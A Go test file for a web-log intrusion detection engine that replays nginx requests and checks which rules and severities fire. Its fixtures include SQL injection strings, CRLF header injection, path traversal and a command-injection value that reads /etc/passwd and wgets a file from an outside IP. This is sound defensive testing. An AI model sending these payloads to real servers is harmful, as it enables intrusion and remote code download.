package detect_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/garda-id/garda/internal/alert"
	"github.com/garda-id/garda/internal/detect"
	"github.com/garda-id/garda/internal/event"
	"github.com/garda-id/garda/internal/ingest/format"
)

type hit struct {
	scenario, severity string
	rules              []string
	fields             map[string]string
}

// replayTargets replays one GET per target, each from its own address
// unless sameClient, with the given status, and returns each line's signals.
func replayTargets(t *testing.T, targets []string, status int, sameClient bool) [][]hit {
	t.Helper()
	eng, err := engine()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for i, target := range targets {
		ip := fmt.Sprintf("192.0.2.%d", i+1)
		if sameClient {
			ip = "192.0.2.1"
		}
		fmt.Fprintf(&b, "%s - - [14/Feb/2024:09:00:%02d +0700] \"GET %s HTTP/1.1\" %d 512 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0\"\n",
			ip, i%60, target, status)
	}
	out := make([][]hit, len(targets))
	nginx, _ := format.Lookup("nginx")
	_, err = eng.Replay(context.Background(), strings.NewReader(b.String()), detect.ReplayOptions{Format: nginx, Workers: 1,
		PerEvent: func(ev *event.Event, sigs []alert.Signal) {
			for _, s := range sigs {
				out[ev.Line-1] = append(out[ev.Line-1], hit{s.Scenario, s.Severity, s.RuleIDs, s.Fields})
			}
		}})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// A CRS rule that misfires alone on ordinary values ('$' in a password)
// raises nothing; its match is kept as evidence on what else the event
// raises (here the probing its client does).
func TestWeakMatchIsEvidenceNotAlert(t *testing.T) {
	if got := replayTargets(t, []string{"/daftar?pwd=Qwerty%24123", "/daftar?pwd=Qwerty$123"}, 200, false); len(got[0])+len(got[1]) > 0 {
		t.Fatalf("a password with '$' raised %v", got)
	}
	var targets []string
	for i := range 10 {
		targets = append(targets, fmt.Sprintf("/lama/%d?pwd=Qwerty%%24123", i))
	}
	got := replayTargets(t, targets, 404, true)
	last := got[len(got)-1]
	if len(last) != 1 || last[0].scenario != "http-probing" {
		t.Fatalf("probing with '$' in the query: %v, want one http-probing signal", last)
	}
	if f := last[0].fields; f[detect.FieldCRSBelow] != "932240" || f[detect.FieldCRSScore] != "0" {
		t.Errorf("evidence fields %v, want %s=932240 and score 0", f, detect.FieldCRSBelow)
	}
}

// Sigma reads the target decoded: form-encoded and doubly encoded payloads
// hit its rules as percent-encoded ones do.
func TestSigmaSeesDecodedTargets(t *testing.T) {
	const sqliRule = "5513deaf-f49a-46c2-a6c8-3f111b5cb453" // SQL Injection Strings In URI
	targets := []string{"/cari?q=1+union+select+1,2--", "/cari?q=1%20union%20select%201,2--", "/cari?q=1%2520union%2520select%25201,2--"}
	for i, hits := range replayTargets(t, targets, 200, false) {
		if !slices.ContainsFunc(hits, func(h hit) bool { return h.scenario == "sigma-"+sqliRule }) {
			t.Errorf("%s: %v, want Sigma's %s", targets[i], hits, sqliRule)
		}
	}
}

// Garda's own checks: header injection in the path, command injection
// and odd dot sequences; one finding alone is never critical, many are.
func TestPayloadChecksAndSeverity(t *testing.T) {
	targets := []string{
		"/%0D%0ASet-Cookie:%20garda=1",            // header injection
		"/cari?q=%3Bid",                           // ;id: Garda's check alone
		"/cari?file=/....//....//web-inf/web.xml", // odd dots
		"/cari?cmd=%3Bcat%20/etc/passwd%3B%20wget%20http://198.51.100.7/x%20-O%20/tmp/x", // many rules
	}
	want := []struct{ scenario, rule, severity string }{
		{"http-web-attack", "garda-header-injection", "medium"}, // with CRS 921190
		{"http-rce", "garda-cmdi-separator", "high"},
		{"http-path-traversal", "garda-traversal-dots", ""},
		{"http-rce", "garda-cmdi-separator", "critical"},
	}
	for i, hits := range replayTargets(t, targets, 200, false) {
		w := want[i]
		j := slices.IndexFunc(hits, func(h hit) bool { return h.scenario == w.scenario })
		if j < 0 || !slices.Contains(hits[j].rules, w.rule) || w.severity != "" && hits[j].severity != w.severity {
			t.Errorf("%s: %+v, want %s with %s (severity %q)", targets[i], hits, w.scenario, w.rule, w.severity)
		}
	}
}

// Sigma's SQL keyword rule ("order by ", "select * ") alerts only when a
// SQL-injection check agrees: a citizen's "order by date" raises nothing
// (and the match is evidence on what else its client does), a column-count
// probe raises the rule with libinjection beside it.
func TestSigmaKeywordRuleNeedsAgreement(t *testing.T) {
	const sqliRule = "5513deaf-f49a-46c2-a6c8-3f111b5cb453"
	got := replayTargets(t, []string{"/cari?q=order+by+date", "/cari?q=select%20your%20region", "/cari?q=1+order+by+3--"}, 200, false)
	if len(got[0])+len(got[1]) > 0 {
		t.Errorf("ordinary words raised %v", got[:2])
	}
	if !slices.ContainsFunc(got[2], func(h hit) bool { return h.scenario == "sigma-"+sqliRule }) ||
		!slices.ContainsFunc(got[2], func(h hit) bool { return slices.Contains(h.rules, "garda-sqli-libinjection") }) {
		t.Errorf("1 order by 3--: %+v, want Sigma's %s and garda-sqli-libinjection", got[2], sqliRule)
	}
	var targets []string
	for i := range 10 {
		targets = append(targets, fmt.Sprintf("/lama/%d?sort=order+by+date", i))
	}
	probing := replayTargets(t, targets, 403, true) // Sigma's rule skips 404s
	last := probing[len(probing)-1]
	if len(last) != 1 || last[0].fields[detect.FieldSigmaUnconfirmed] != sqliRule {
		t.Errorf("probing with \"order by date\": %+v, want one signal with %s=%s", last, detect.FieldSigmaUnconfirmed, sqliRule)
	}
}
